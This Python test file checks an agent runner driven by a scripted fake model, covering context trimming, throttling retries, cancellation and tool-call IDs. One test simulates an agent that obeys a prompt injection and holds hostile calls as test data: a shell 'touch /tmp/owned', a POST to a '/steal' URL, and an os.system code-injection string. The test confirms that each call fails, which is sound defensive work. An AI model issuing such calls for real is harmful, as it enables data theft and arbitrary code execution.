"""One run with a model that plays a script: what the model is sent, and what comes of it."""

import asyncio
import json
import threading
from dataclasses import dataclass
from itertools import pairwise
from typing import Any

import pytest
import sluice.agent_runner.retry
import sluice.agent_runner.runner
from scripted import Scripted, call, say
from sluice.agent_runner.runner import AgentRunner, Ended
from sluice.runs.run import Run
from sluice.settings import Settings
from sluice.threads.history import Question
from strands import tool
from strands.types.exceptions import ContextWindowOverflowException, ModelThrottledException

SETTINGS = Settings.read({"AWS_REGION": "us-east-1", "SLUICE_CONVERSATIONS": "c"})


@dataclass
class Desk:
    """An agent runner whose model plays a script."""

    monkeypatch: pytest.MonkeyPatch

    def give(self, *tools: Any) -> None:
        """Let the model have these tools, and no other."""

        class Toolbox:
            description: tuple[()] = ()

            def __init__(self, _: Any) -> None: ...

            async def tools_for(self, *_: Any) -> Any:
                return [*tools], []

            def close(self) -> None: ...

        self.monkeypatch.setattr(sluice.agent_runner.runner, "Toolbox", Toolbox)

    def ask(
        self, model: Scripted, past: list[Any], run: Run | None = None, told: Any = ()
    ) -> tuple[list[Any], Ended]:
        """The events of a run and how it ended."""
        self.monkeypatch.setattr(sluice.agent_runner.runner, "make_model", lambda _: model)
        runner = AgentRunner(SETTINGS)
        run = run or Run("thread-1", "run-1", [{"id": "q", "role": "user", "content": "Now?"}])
        question = Question(past, [{"text": "Now?"}], None, "token", told)
        try:
            ended = asyncio.run(runner.answer(question, run))
        finally:
            runner.close()
        frames = [frame.partition(b"data: ")[2] for frame in run._frames]
        return [json.loads(frame) for frame in frames], ended


@pytest.fixture
def desk(monkeypatch: pytest.MonkeyPatch) -> Desk:
    monkeypatch.setattr(sluice.agent_runner.retry, "DELAYS", [0.0, 0.0, 0.0])
    return Desk(monkeypatch)


def stored_runs(count: int) -> list[Any]:
    """So many turns of a conversation, as Strands has them."""
    return [
        message
        for number in range(count)
        for message in (
            {"role": "user", "content": [{"text": f"question {number}"}]},
            {"role": "assistant", "content": [{"text": f"answer {number}"}]},
        )
    ]


TOO_LONG = ContextWindowOverflowException("CANARY")


def test_a_conversation_that_is_too_long_is_halved_until_it_fits(desk: Desk) -> None:
    model = Scripted(TOO_LONG, TOO_LONG, TOO_LONG, say("Yes"))
    events, ended = desk.ask(model, stored_runs(100))
    lengths = [len(messages) for messages in model.asked]
    assert lengths[0] == 201
    assert all(after <= before / 2 + 1 for before, after in pairwise(lengths))
    assert all(messages[0]["role"] == "user" for messages in model.asked)
    assert model.asked[-1][-1]["content"] == [{"text": "Now?"}]
    told = [event for event in events if event["type"] == "CUSTOM"]
    assert [event["name"] for event in told] == ["context_trimmed"], "it is told once"
    assert ended.service_error is None


def test_a_question_that_alone_is_too_long_is_told(desk: Desk) -> None:
    model = Scripted(TOO_LONG, TOO_LONG, TOO_LONG)
    _, ended = desk.ask(model, stored_runs(1))
    assert len(model.asked) == 2
    assert ended.service_error is not None
    assert ended.service_error.code == "prompt_too_long"
    assert ended.usage is None


def test_a_tools_endless_result_is_shortened_when_nothing_else_can_go(desk: Desk) -> None:
    @tool
    def read() -> str:
        """Read."""
        return "words " * 10_000

    desk.give(read)
    model = Scripted(call("read"), TOO_LONG, say("Read."))
    _, ended = desk.ask(model, [])
    assert ended.service_error is None
    question, _, result = model.asked[-1]
    assert question["content"] == [{"text": "Now?"}]
    assert len(json.dumps(result)) < 5_000


def test_t4_a_model_that_obeys_an_injection_finds_no_power_to_use(desk: Desk) -> None:
    # What a tool returned tells the model to call others, and it does.
    model = Scripted(
        call("calculator", expression="2 * 3"),
        call("shell", command="touch /tmp/owned"),
        call("http_request", method="POST", url="http://127.0.0.1:9/steal"),
        call("calculator", expression="__import__('os').system('id')"),
        say("I could do nothing."),
    )
    events, ended = desk.ask(model, [])
    assert model.offered == {"calculator", "current_time"}, "these are all tools there are"
    results = [event for event in events if event["type"] == "TOOL_CALL_RESULT"]
    assert [result.get("metadata") for result in results] == [
        None,
        {"status": "error"},
        {"status": "error"},
        {"status": "error"},
    ]
    assert "uid=" not in results[-1]["content"]
    assert "shell" in results[1]["content"], "the model learns that there is no such tool"
    assert ended.service_error is None
    assert ended.usage is not None
    assert ended.usage["totalTokens"] == 5 * 15


def test_what_a_failed_run_used_is_known(desk: Desk) -> None:
    failure = ContextWindowOverflowException("CANARY")
    model = Scripted(call("calculator", expression="1 + 1"), failure, failure)
    _, ended = desk.ask(model, [])
    assert ended.service_error is not None
    assert ended.usage is not None
    assert ended.usage["totalTokens"] == 15


def test_a_fault_of_our_own_ends_the_run_and_keeps_what_it_used(desk: Desk, caplog) -> None:
    model = Scripted(call("calculator", expression="1 + 1"), KeyError("CANARY"))
    events, ended = desk.ask(model, [])
    assert ended.service_error is not None
    assert ended.service_error.code == "internal_error"
    assert "CANARY" not in json.dumps(events) + ended.service_error.message
    assert ended.usage is not None
    assert "a run failed" in caplog.text


def test_a_tool_that_hangs_does_not_hold_up_a_stop(desk: Desk) -> None:
    run = Run("thread-1", "run-1")
    cancelled = threading.Event()

    @tool
    async def hang() -> str:
        """Hang."""
        run.cancel()
        try:
            await asyncio.Event().wait()
        except asyncio.CancelledError:
            cancelled.set()
            raise
        return "never"

    desk.give(hang)
    model = Scripted(call("hang"))
    events, ended = desk.ask(model, [], run)
    assert cancelled.wait(10)
    assert ended.service_error is None
    assert ended.usage is not None
    assert [event["type"] for event in events] == [
        "TOOL_CALL_START",
        "TOOL_CALL_ARGS",
        "TOOL_CALL_END",
        "TOOL_CALL_RESULT",
    ]
    assert events[-1]["metadata"] == {"status": "error"}, "the call was given up"


def test_a_run_that_was_stopped_before_the_agent_runner_was_there_asks_nothing(desk: Desk) -> None:
    model, run = Scripted(), Run("thread-1", "run-1")
    run.cancel()
    events, ended = desk.ask(model, [], run)
    assert (events, ended.usage, ended.service_error) == ([], None, None)
    assert not model.asked


BUSY = ModelThrottledException("busy")
THOUGHT = {"contentBlockDelta": {"delta": {"reasoningContent": {"text": "Hm"}}}}
HALVES = {
    "text": say("Half")[:2],
    "reasoning": [say("")[0], THOUGHT],
    "reasoning and text": [say("")[0], THOUGHT, say("Half")[1]],
    "call": call("now")[:2],
    "arguments": call("now", of="day")[:3],
    "text and call": [*say("Half")[:3], *call("now")[1:4]],
}


@pytest.mark.parametrize("half", HALVES.values(), ids=HALVES)
def test_the_answer_of_a_model_that_was_throttled_in_mid_answer_takes_the_halfs_place(
    desk: Desk, half: list[Any]
) -> None:
    run = Run("thread-1", "run-1", [{"id": "question", "role": "user", "content": "Now?"}])
    model = Scripted(
        [*say("Let me see.")[:3], *call("calculator", expression="1 + 1")[1:]],
        [*half, BUSY],
        [*half, BUSY],
        say("Whole"),
    )
    events, ended = desk.ask(model, [], run)
    assert ended.service_error is None
    _, *kept, answer = run.transcript.messages
    assert [message["role"] for message in kept] == ["assistant", "tool"]
    assert answer["content"] == "Whole"
    assert "toolCalls" not in answer
    snapshots = [event["messages"] for event in events if event["type"] == "MESSAGES_SNAPSHOT"]
    assert [[m["id"] for m in snapshot] for snapshot in snapshots] == [
        ["question", *(message["id"] for message in kept)]
    ] * 2


def test_a_half_stays_where_the_model_says_nothing_more(desk: Desk) -> None:
    run = Run("thread-1", "run-1", [{"id": "question", "role": "user", "content": "Now?"}])
    half, begun = [*say("Half")[:2], BUSY], [say("")[0], BUSY]
    events, ended = desk.ask(Scripted(half, begun, BUSY, BUSY), [], run)
    assert ended.service_error is not None
    assert ended.service_error.code == "model_throttled"
    assert [message["content"] for message in run.transcript.messages] == ["Now?", "Half"]
    assert not [event for event in events if event["type"] == "MESSAGES_SNAPSHOT"]


def test_a_snapshot_holds_the_turns_before(desk: Desk) -> None:
    told = [{"id": "a", "role": "user", "content": "1"}]
    model = Scripted([*say("Half")[:2], BUSY], say("Whole"))
    events, _ = desk.ask(model, [], told=told)
    (snapshot,) = [event["messages"] for event in events if event["type"] == "MESSAGES_SNAPSHOT"]
    assert [message["id"] for message in snapshot] == ["a", "q"]


def test_a_model_throttled_before_its_first_word_is_asked_again(desk) -> None:
    model = Scripted([say("")[0], ModelThrottledException("busy")], say("Whole"))
    events, ended = desk.ask(model, [])
    assert ended.service_error is None
    assert [event["delta"] for event in events if "delta" in event] == ["Whole"]


def test_calls_that_share_an_id_are_sent_with_one_of_their_own_and_its_result(desk: Desk) -> None:
    """Ollama's and llama.cpp's servers count calls anew in each answer."""
    model = Scripted(
        call("calculator", expression="1 + 1"), call("calculator", expression="2 + 2"), say("4")
    )
    _, ended = desk.ask(model, [])
    assert ended.service_error is None
    _, *exchanges = model.asked[-1]
    ids = [next(iter(message["content"][0].values()))["toolUseId"] for message in exchanges]
    assert ids[0] == ids[1] == "call_calculator"
    assert ids[2] == ids[3] != ids[0]
    said = [message["content"][0]["toolResult"]["content"] for message in exchanges[1::2]]
    assert said == [[{"text": "Result: 2"}], [{"text": "Result: 4"}]]


@pytest.mark.anyio
async def test_of_many_runs_that_begin_together_each_turn_of_the_loop_has_one(monkeypatch) -> None:
    begun: list[Run] = []

    async def begin(_runner: Any, work: Any, *_: Any) -> None:
        begun.append(work.run)

    monkeypatch.setattr(AgentRunner, "_speak", begin)
    runner = AgentRunner(SETTINGS)
    try:
        question = Question([], [{"text": "Hello"}], None, "")
        runs = [asyncio.create_task(runner.answer(question, Run("t", str(n)))) for n in range(20)]
        while len(begun) < len(runs):
            before = len(begun)
            await asyncio.sleep(0)
            assert len(begun) - before <= 1
        await asyncio.gather(*runs)
    finally:
        runner.close()
